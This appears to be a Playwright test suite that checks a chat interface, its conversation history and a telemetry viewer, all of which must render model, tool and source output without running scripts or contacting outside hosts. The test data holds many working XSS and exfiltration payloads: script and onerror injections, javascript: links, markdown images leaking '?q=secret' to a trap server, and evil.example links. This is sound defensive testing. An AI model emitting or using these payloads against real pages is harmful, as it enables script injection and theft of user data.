import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { expect, test } from './fixtures.ts'

/** Counts who comes: nobody is to. */
async function startTrap() {
  const met: string[] = []
  const server = createServer((request, response) => {
    met.push(request.url ?? '')
    response.setHeader('access-control-allow-origin', '*')
    response.end('caught')
  }).listen(0, '127.0.0.1')
  await new Promise((listening) => server.once('listening', listening))
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
  const stop = () => {
    server.closeAllConnections()
    server.close()
  }
  return { url, met, stop }
}

/** Everything that a model, a tool or a page that a model has read could write to have something run, loaded or sent. */
const hostile = (trap: string) => [
  `<script>window.hit = 1; fetch('${trap}/script')</script>`,
  `<img src="${trap}/img" onerror="window.hit = 2">`,
  `<svg onload="window.hit = 3"><use href="${trap}/use#x"/></svg>`,
  `<iframe src="${trap}/iframe" srcdoc="<script>parent.hit = 4</script>"></iframe>`,
  `<link rel="stylesheet" href="${trap}/css"><link rel="prefetch" href="${trap}/prefetch"><style>@import url(${trap}/import);</style>`,
  `<form action="${trap}/form"><button autofocus onfocus="window.hit = 5">x</button></form><meta http-equiv="refresh" content="0;url=${trap}/meta">`,
  `<video poster="${trap}/poster" src="${trap}/video" autoplay></video><object data="${trap}/object"></object>`,
  `![what you asked](${trap}/markdown-image?q=secret)`,
  `![a][ref] [b][ref]\n\n[ref]: ${trap}/reference "t"`,
  `[click](javascript:window.hit=6) [click](JaVaScRiPt:window.hit=6) [click](&#106;avascript:window.hit=6)`,
  `[click](java\tscript:window.hit=6) [click](data:text/html,<script>opener.hit=6</script>) [click](vbscript:x)`,
  `[click](blob:${trap}/blob) [click](file:///etc/passwd) [click](//evil.example/protocol-relative)`,
  `<javascript:window.hit=7> <a href="javascript:window.hit=7">x</a>`,
  `[plain](${trap}/link?q=secret)`,
  '$\\href{javascript:window.hit=8}{x}$ $\\url{javascript:window.hit=8}$ $$\\includegraphics{https://evil.example/i}$$',
  `$\\htmlData{x=1}{y}$ $\\htmlStyle{background:url(${trap}/katex)}{y}$ $\\htmlClass{fixed}{y}$`,
  '```mermaid\ngraph TD; A["<img src=x onerror=window.hit=9>"] --> B; click A "javascript:window.hit=9"\n```',
  `\`\`\`html\n<script>window.hit = 10</script>\n\`\`\``,
  `| a | b |\n|---|---|\n| <img src=x onerror="window.hit=11"> | ![x](${trap}/cell) |`,
  `[^1]: <img src=x onerror="window.hit=12">\n\nfoot[^1]`,
]

/** A stream with the same in the place of everything that an answer can have. */
function streamOf(trap: string): string {
  const text = hostile(trap).join('\n\n')
  const markup = hostile(trap)[1]
  const tool = { toolCallId: 'c1', toolName: markup, dynamic: true }
  const chunks = [
    { type: 'start', messageId: '5e0c7d1c-9a51-4c62-9f0e-7f1f3ac5b001' },
    { type: 'start-step' },
    { type: 'data-notice', data: { server: markup, message: text } },
    { type: 'reasoning-start', id: 'r' },
    { type: 'reasoning-delta', id: 'r', delta: text },
    { type: 'reasoning-end', id: 'r' },
    { type: 'tool-input-start', ...tool },
    { type: 'tool-input-available', ...tool, input: { a: text, [String(markup)]: 1 } },
    { type: 'tool-output-available', toolCallId: 'c1', dynamic: true, output: text },
    { type: 'source-url', sourceId: '0', url: 'javascript:window.hit=20', title: markup },
    { type: 'source-url', sourceId: '1', url: `${trap}/source`, title: 'A page' },
    { type: 'text-start', id: 't' },
    ...text.split(/(?<=\n)/).map((delta) => ({ type: 'text-delta', id: 't', delta })),
    { type: 'text-end', id: 't' },
    { type: 'finish-step' },
    { type: 'finish' },
  ]
  return `${chunks.map((chunk) => `data: ${JSON.stringify(chunk)}\n\n`).join('')}data: [DONE]\n\n`
}

/** What stands in the page that could run, load, send or frame something. */
const foundIn = (page: Page) =>
  page.evaluate(() => {
    const elements = [...document.querySelectorAll('main article *')]
    const attributes = elements.flatMap((element) =>
      [...element.attributes].map(({ name, value }) => ({ name, value })),
    )
    const links = elements.filter((element) => element instanceof HTMLAnchorElement)
    return {
      hit: (window as { hit?: unknown }).hit ?? null,
      elements: elements
        .map(({ localName }) => localName)
        .filter((name) =>
          /^(script|iframe|object|embed|link|style|meta|base|form|video|audio|source|img|use|image)$/.test(name),
        ),
      handlers: attributes.filter(({ name }) => name.startsWith('on') || name === 'ping' || name === 'srcdoc'),
      styles: attributes.filter(({ name, value }) => name === 'style' && /url\(|position|expression/i.test(value)),
      schemes: [...new Set(links.filter((link) => link.hasAttribute('href')).map(({ protocol }) => protocol))].sort(),
      // A page that is opened learns neither who sent one there, nor reaches back.
      loose: links.filter(
        ({ href, rel, target, origin }) =>
          href && origin !== location.origin && !(target === '_blank' && rel.includes('noreferrer')),
      ).length,
    }
  })

const nothing = { hit: null, elements: [], handlers: [], styles: [], loose: 0 }

test('what models, tools and sources write runs nothing, loads nothing and sends nothing away', async ({
  chat,
  page,
  baseURL,
}) => {
  const trap = await startTrap()
  const elsewhere: string[] = []
  page.on('request', (request) => {
    if (new URL(request.url()).origin !== new URL(baseURL ?? '').origin && /^http/.test(request.url()))
      elsewhere.push(request.url())
  })
  page.on('dialog', (dialog) => void dialog.dismiss())
  const headers = { 'content-type': 'text/event-stream', 'x-vercel-ai-ui-message-stream': 'v1' }
  await page.route('**/api/chat', (route) => route.fulfill({ headers, body: streamOf(trap.url) }))
  await chat.open()
  await chat.ask('Hello')
  await expect(chat.answer).toContainText('plain')
  for (const closed of await page
    .locator('main article [aria-expanded=false], main article details:not([open]) > summary')
    .all())
    await closed.click({ timeout: 2000 }).catch(() => {})
  await expect(chat.answer.locator('.katex').first()).toBeAttached()
  for (const link of await chat.answer.getByRole('link').all()) await link.hover({ timeout: 2000 }).catch(() => {})
  await page.waitForTimeout(500)

  const { schemes, ...found } = await foundIn(page)
  expect(found).toEqual(nothing)
  for (const scheme of schemes) expect(['http:', 'https:', 'mailto:']).toContain(scheme)
  expect(elsewhere).toEqual([])
  expect(trap.met).toEqual([])
  trap.stop()
})

test('nor does what comes from the database: the history, titles and names, also as the server renders them', async ({
  chat,
  page,
}) => {
  const trap = await startTrap()
  const text = `<img src="${trap.url}/img" onerror="window.hit = 1"></title><script>window.hit = 2</script> ![x](${trap.url}/md) [y](javascript:window.hit=3)`
  await chat.open()
  await chat.ask(`mock-echo ${text}`)
  await chat.answered()
  const path = `/api/conversations/${chat.conversationId}`
  expect((await page.request.patch(path, { data: { title: text } })).ok()).toBe(true)
  await chat.reload()
  await expect(chat.answer).toContainText('onerror')
  const { schemes, ...found } = await foundIn(page)
  expect(found).toEqual(nothing)
  expect(schemes).not.toContain('javascript:')
  expect(await page.title()).toContain('<img')
  expect(trap.met).toEqual([])
  trap.stop()
})

test('the viewer shows telemetry, and runs none of it', async ({ page, viewerUrl }) => {
  const trap = await startTrap()
  const text = `<img src="${trap.url}/img" onerror="window.hit = 1"><script>window.hit = 2</script>`
  const traceId = 'a77ac4ed'.repeat(4)
  const string = (key: string) => ({ key, value: { stringValue: text } })
  const times = { startTimeUnixNano: `${Date.now()}000000`, endTimeUnixNano: `${Date.now() + 5}000000` }
  const span = { traceId, spanId: 'a77ac4eda77ac4ed', name: text, ...times, attributes: [string('link'), string(text)] }
  const resource = { attributes: [{ key: 'service.name', value: { stringValue: text } }] }
  const spans = { resourceSpans: [{ resource, scopeSpans: [{ spans: [span] }] }] }
  expect((await page.request.post(`${viewerUrl}/v1/traces`, { data: spans })).ok()).toBe(true)
  for (const at of ['/traces', `/traces/${traceId}`]) {
    await page.goto(viewerUrl + at)
    await expect(page.getByText('onerror').filter({ visible: true }).first()).toBeVisible()
    expect(
      await page.evaluate(() => [(window as { hit?: number }).hit ?? null, document.querySelectorAll('img').length]),
    ).toEqual([null, 0])
  }
  expect(trap.met).toEqual([])
  trap.stop()
})
